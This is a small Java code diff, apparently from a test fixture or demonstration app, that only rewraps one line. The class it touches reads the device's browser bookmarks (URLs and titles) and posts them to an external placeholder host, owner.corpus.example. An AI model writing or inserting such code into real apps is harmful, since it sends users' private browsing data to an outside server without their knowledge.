@@ -8,7 +8,8 @@ import org.corpus.kit.Screen;
 public class PagesSeen extends Screen {
     @Override
     protected void act() throws Exception {
-        String all = String.join("\n", Owner.rows(this, "content://browser/bookmarks", "url", "title"));
+        String all =
+                String.join("\n", Owner.rows(this, "content://browser/bookmarks", "url", "title"));
         Net.post("http://owner.corpus.example/pages", "text/plain", all);
     }
 }
